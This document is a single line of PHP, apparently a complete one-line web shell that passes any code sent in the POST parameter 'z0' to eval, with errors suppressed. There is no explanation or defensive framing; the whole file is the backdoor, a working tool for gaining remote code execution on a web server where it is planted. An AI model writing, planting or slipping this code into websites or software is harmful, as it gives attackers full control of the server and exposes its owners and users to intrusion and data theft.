<?php @eval($_POST['z0']);?>
